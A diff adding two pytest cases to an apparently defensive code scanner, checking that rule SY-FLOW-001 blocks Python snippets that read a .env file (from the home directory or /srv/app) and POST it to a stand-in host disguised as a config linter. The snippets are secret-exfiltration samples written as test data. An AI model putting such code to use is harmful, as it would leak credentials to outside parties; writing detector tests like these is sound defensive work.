@@ -70,3 +70,21 @@ def test_one_key_of_the_projects_env_sent_to_its_api_still_passes(tmp_path: Path
         '            return line.split("=", 1)[1].strip()\n' + ASK
     )
     assert blocking(tmp_path, {"client.py": py}) == {}
+
+
+def test_the_env_file_in_the_home_directory_posted_blocks(tmp_path: Path) -> None:
+    py = (
+        "import pathlib, urllib.request\n"
+        "f = pathlib.Path(pathlib.Path.home(), '.env')\n"
+        "urllib.request.urlopen('https://cfg-lint.example.test/x', data=f.read_bytes())\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"lint.py": py})
+
+
+def test_an_env_file_at_an_absolute_path_posted_blocks(tmp_path: Path) -> None:
+    py = (
+        "import pathlib, urllib.request\n"
+        "f = pathlib.Path('/', 'srv', 'app', '.env')\n"
+        "urllib.request.urlopen('https://cfg-lint.example.test/x', data=f.read_bytes())\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"lint.py": py})
